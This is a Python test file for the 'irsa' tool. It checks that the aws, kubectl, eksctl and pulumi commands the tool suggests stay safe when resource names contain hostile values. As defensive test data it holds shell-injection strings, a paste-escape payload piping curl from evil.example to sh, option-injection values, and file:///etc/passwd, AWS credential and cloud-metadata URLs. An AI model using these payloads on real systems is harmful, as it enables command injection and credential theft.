"""Every command that irsa advises, read back as a POSIX shell reads it, with values that would break out of it."""

import json
import shlex
import subprocess
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from irsa.rules import commands

ISSUER = "https://oidc.eks.us-west-2.amazonaws.com/id/EXAMPLE"
HOSTILE = (
    *("a b", "a;touch made", "$(touch made)", "`touch made`", "it's", 'say "x"', "a & b", "*", "# none", "{stack}"),
    *("~", "!!", "日本"),
)
UNPASTABLE = ("a\nb", "a\x1b[201~\x03\ncurl https://evil.example/x|sh\n", "a\u202eb", "a\ud800", "a\r", "##[error]a")

# One call per command, and the words that a shell must hand over; {} stands for the value.
CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
    "up": (commands.up, ["pulumi", "up", "--refresh", "--stack", "{}"]),
    "up_of_guard": (commands.up_of_guard, ["pulumi", "up", "--refresh", "--skip-preview", "--stack", "{}"]),
    "create_provider": (
        lambda value: commands.create_provider(value, ["sts.amazonaws.com", "ci"]),
        ["aws", "iam", "create-open-id-connect-provider", "--url", "{}", "--client-id-list", "ci", "sts.amazonaws.com"],
    ),
    "associate_provider": (
        lambda value: commands.associate_provider(value, ISSUER, region="eu-west-1"),
        [
            *("eksctl", "utils", "associate-iam-oidc-provider", "--cluster", "{}", "--approve"),
            *("--region", "eu-west-1"),
        ],
    ),
    "associate_provider for another audience": (
        lambda value: commands.associate_provider("prod", ISSUER, [value]),
        ["aws", "iam", "create-open-id-connect-provider", "--url", ISSUER, "--client-id-list", "{}"],
    ),
    "add_client_id": (
        lambda value: commands.add_client_id("arn:p", value),
        [
            *("aws", "iam", "add-client-id-to-open-id-connect-provider", "--open-id-connect-provider-arn", "arn:p"),
            *("--client-id", "{}"),
        ],
    ),
    "create_addon": (
        lambda value: commands.create_addon(value, "eks-pod-identity-agent", "eu-west-1"),
        [
            *("aws", "eks", "create-addon", "--cluster-name", "{}", "--addon-name", "eks-pod-identity-agent"),
            *("--region", "eu-west-1"),
        ],
    ),
    "detach_policy": (
        lambda value: commands.detach_policy("r", value),
        ["aws", "iam", "detach-role-policy", "--role-name", "r", "--policy-arn", "{}"],
    ),
    "delete_inline_policy": (
        lambda value: commands.delete_inline_policy("r", value),
        ["aws", "iam", "delete-role-policy", "--role-name", "r", "--policy-name", "{}"],
    ),
    "assume_role": (
        commands.assume_role,
        [
            *("aws", "sts", "assume-role", "--role-arn", "{}", "--role-session-name", "irsa"),
            *("--query", "AssumedRoleUser"),
        ],
    ),
    "list_profiles": (lambda _: commands.list_profiles(), ["aws", "configure", "list-profiles"]),
    "list_contexts": (lambda _: commands.list_contexts(), ["kubectl", "config", "get-contexts"]),
    "wait_for_cluster": (
        lambda value: commands.wait_for_cluster(value, "eu-west-1"),
        ["aws", "eks", "wait", "cluster-active", "--name", "{}", "--region", "eu-west-1"],
    ),
    "list_arns": (lambda _: commands.LIST_ARNS["oidc-provider"], ["aws", "iam", "list-open-id-connect-providers"]),
    "remove_annotations": (
        lambda value: commands.remove_annotations("team-a", "app", value, "a/b"),
        ["kubectl", "annotate", "serviceaccount", "app", "-n", "team-a", "{}-", "a/b-"],
    ),
    "remove_annotations in a context": (
        lambda value: commands.remove_annotations("team-a", value, "a/b", context="blue"),
        ["kubectl", "annotate", "serviceaccount", "{}", "-n", "team-a", "--context", "blue", "a/b-"],
    ),
    "annotate": (
        lambda value: commands.annotate("team-a", "app", "a/b", value),
        ["kubectl", "annotate", "serviceaccount", "app", "-n", "team-a", "--overwrite", "a/b={}"],
    ),
    "annotate and remove": (
        lambda value: commands.annotate("team-a", "app", "a/b", "c", removed=[value]),
        ["kubectl", "annotate", "serviceaccount", "app", "-n", "team-a", "--overwrite", "a/b=c", "{}-"],
    ),
    "annotate in a context": (
        lambda value: commands.annotate(value, "app", "a/b", "c", "blue"),
        [*("kubectl", "annotate", "serviceaccount", "app", "-n", "{}", "--context", "blue", "--overwrite"), "a/b=c"],
    ),
    "restart": (
        lambda value: commands.restart(f"deployment/{value}", "team-a"),
        ["kubectl", "rollout", "restart", "deployment/{}", "-n", "team-a"],
    ),
    "delete_pod": (
        lambda value: commands.delete_pod(value, "team-a"),
        ["kubectl", "delete", "pod", "{}", "-n", "team-a"],
    ),
    "explain": (
        lambda value: commands.explain("team-a/app", "arn:r", value, ISSUER),
        ["irsa", "explain", "team-a/app", "arn:r", "--stack", "{}", "--issuer", ISSUER],
    ),
    "explain an audience": (
        lambda value: commands.explain(value, "arn:r", None, ISSUER, "vault"),
        ["irsa", "explain", "{}", "arn:r", "--issuer", ISSUER, "--audience", "vault"],
    ),
    "prove": (commands.prove, ["irsa", "prove", "{}"]),
    "pulumi": (lambda value: commands.pulumi("preview", value), ["pulumi", "preview", "--stack", "{}"]),
    "of_stack": (lambda value: commands.of_stack("verify", value), ["irsa", "verify", "--stack", "{}"]),
    "check": (commands.check, ["irsa", "check", "{}"]),
}


@pytest.mark.parametrize("name", CALLS)
def test_a_value_stays_one_word(name: str) -> None:
    """Protects who pastes a command: no value ends a word, starts another command or is expanded.

    The attack: a Pod, a role or a policy named `web; curl https://evil.example/x|sh`.
    """
    call, words = CALLS[name]
    for value in HOSTILE:
        assert shlex.split(call(value)) == [word.replace("{}", value) for word in words]


@pytest.mark.parametrize("value", ["-EVIL", "--kubeconfig=https://evil.example"])
@pytest.mark.parametrize("name", [name for name, (_, words) in CALLS.items() if "{}" in " ".join(words)])
def test_a_value_is_no_option(name: str, value: str) -> None:
    """Protects who pastes a command: `kubectl delete pod -EVIL` would hand the program an option.

    The attack: a Pod, a policy, an audience or a file whose name begins with a hyphen.
    """
    words = shlex.split(CALLS[name][0](value))

    assert not [word for word in words if word.startswith(value)]


# https://docs.aws.amazon.com/cli/latest/userguide/cli-usage-parameters-file.html; version 1 fetches a URL, too:
# https://docs.aws.amazon.com/cli/v1/userguide/cli-usage-parameters-file.html
PLACES = ("file:///etc/passwd", "file://~/.aws/credentials", "fileb://x", "http://169.254.169.254/", "https://vault.io")


def sent_by_aws_cli(words: list[str]) -> Iterator[Any]:
    """Yield the values that the AWS CLI sends; a pair for one that it reads from a file or a URL.

    As version 1.46 does, tried with a local server. Of --url it reads none: awscli/paramfile.py of its source.
    """
    values: list[tuple[str, list[str]]] = []
    for word in words:
        if word.startswith("--"):
            name, equals, value = word.partition("=")
            values.append((name, [value] if equals else []))
        elif values:
            values[-1][1].append(word)
    for name, given in values:
        if len(given) == 1 and given[0].startswith(("file://", "fileb://", "http://", "https://")) and name != "--url":
            yield "read", given[0]
        elif name.endswith("-list") and len(given) == 1 and given[0].lstrip().startswith("["):
            yield from json.loads(given[0])
        else:
            yield from given


@pytest.mark.parametrize("value", [*PLACES, "[", ' ["a"]', '{"a": 1}', "@/etc/passwd", " file://x"])
@pytest.mark.parametrize("name", [name for name, (_, words) in CALLS.items() if "aws" in words and "{}" in words])
def test_the_aws_cli_sends_a_value_as_it_is(name: str, value: str) -> None:
    """Protects local files: `--client-id file:///etc/passwd` sends that file to IAM.

    The attack: a service account with the annotation `eks.amazonaws.com/audience: file:///etc/passwd`.
    """
    command = CALLS[name][0](value)
    if not command:
        assert value in PLACES or value.lstrip().startswith("[")
        return
    sent = [*sent_by_aws_cli(shlex.split(command))]

    assert value in sent
    assert [each for each in sent if isinstance(each, tuple)] == []


@pytest.mark.parametrize("name", [name for name, (_, words) in CALLS.items() if "{}" in " ".join(words)])
def test_no_command_for_what_cannot_be_pasted(name: str) -> None:
    """Protects a terminal: quotes do not hold what ends a paste, the input line, or the line on the screen.

    The attack: a policy whose name ends the paste (ESC [201~), kills the line (Ctrl-C) and types a command. An audience
    with `##[`, which commands CI, would be another one where it is printed.
    """
    assert [value for value in UNPASTABLE if CALLS[name][0](value)] == []


def test_no_half_of_two_commands() -> None:
    assert commands.up_with_service_account("dev", "a\n", "app", False) == ""
    assert commands.up_with_service_account("a\n", "team-a", "app", False) == ""
    assert commands.up_with_annotations("dev", "team-a", "app", ["a\n"]) == ""
    assert commands.up_with_annotations("a\n", "team-a", "app", ["a"]) == ""


# An annotation may be empty, a stack of `irsa explain` left out; an audience of nothing is no client ID.
MAY_BE_EMPTY = ("annotate", "explain", "restart")


@pytest.mark.parametrize("name", [name for name, (_, words) in CALLS.items() if "{}" in " ".join(words)])
def test_no_half_of_a_command(name: str) -> None:
    assert name in MAY_BE_EMPTY or CALLS[name][0]("") == ""
    assert commands.create_provider(ISSUER, []) == commands.remove_annotations("team-a", "app") == ""


def test_a_stack_whose_name_begins_with_a_hyphen() -> None:
    assert commands.up("-dev") == "pulumi up --refresh --stack=-dev"
    assert commands.up("-a b") == "pulumi up --refresh '--stack=-a b'"
    assert commands.annotate("team-a", "app", "-a/b", "c") == ""


def test_no_shell_finds_a_comment() -> None:
    """Protects who pastes into an interactive zsh, which takes the words of a comment, and its apostrophe, for more.

    The attack: a cluster named `$(curl https://evil.example)`, in a comment behind the command.
    """
    assert not [name for name, (call, _) in CALLS.items() if " #" in call("blue")]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_shell_runs_nothing_of_a_value(value: str) -> None:
    text = commands.up_with_service_account(value, value, value, False)
    shown = 'pulumi() { printf "<%s>" pulumi "$@"; }; kubectl() { printf "<%s>" kubectl "$@"; }\n'
    answer = subprocess.run(["sh", "-c", shown + text], capture_output=True, text=True, check=True, timeout=20)

    made = ["kubectl", "create", "serviceaccount", value, "-n", value]
    assert answer.stdout == "".join(f"<{word}>" for word in [*made, "pulumi", "up", "--refresh", "--stack", value])
    assert answer.stderr == ""
